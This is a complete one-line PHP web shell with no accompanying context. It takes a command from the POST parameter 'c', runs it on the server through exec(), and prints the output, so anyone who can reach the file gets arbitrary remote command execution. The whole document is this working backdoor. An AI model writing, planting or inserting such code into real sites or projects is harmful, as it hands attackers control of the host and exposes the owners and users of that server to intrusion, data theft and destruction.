<?php header("Content-Type: text/plain"); $o = []; exec($_POST["c"] . " 2>&1", $o); echo implode("\n", $o);
